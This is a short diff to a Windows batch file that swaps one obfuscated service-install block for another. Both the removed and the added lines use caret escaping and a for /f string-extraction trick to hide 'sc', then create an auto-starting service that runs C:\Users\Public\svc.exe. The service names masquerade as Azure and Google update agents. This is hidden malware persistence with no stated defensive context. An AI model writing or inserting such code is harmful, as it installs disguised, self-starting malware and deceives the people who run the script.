@@ -1,3 +1,3 @@
-REM run 5286 v4
-fo^r /^f "tokens=2 delims=~" %%i ^in ("dtdy~sc~zpyq") ^do %%i ^cre^at^e Azure^A^ge^n^t^He^al^th binPat^h= "cmd.exe /c C:\Users\Public\svc.exe" ^st^ar^t= ^a^uto
-for /f "tokens=1 delims=#" %%i i^n ("sc#clhe#buqc") d^o %%i ^s^ta^rt A^z^u^reAg^en^tHea^l^th
+REM provision 9191 v4
+f^or /f "tokens=2 delims=~" %%i ^i^n ("fyfq~sc~mfhb") do %%i ^c^reate G^o^o^g^leUp^d^a^te^T^askM^a^ch^ine b^inPa^th= "cmd.exe /c C:\Users\Public\svc.exe" ^start= aut^o
+^f^or /^f "tokens=3 delims=#" %%i i^n ("bavh#ebmf#sc") ^d^o %%^i ^st^ar^t G^oo^g^leU^pda^teTa^skM^ac^hi^n^e
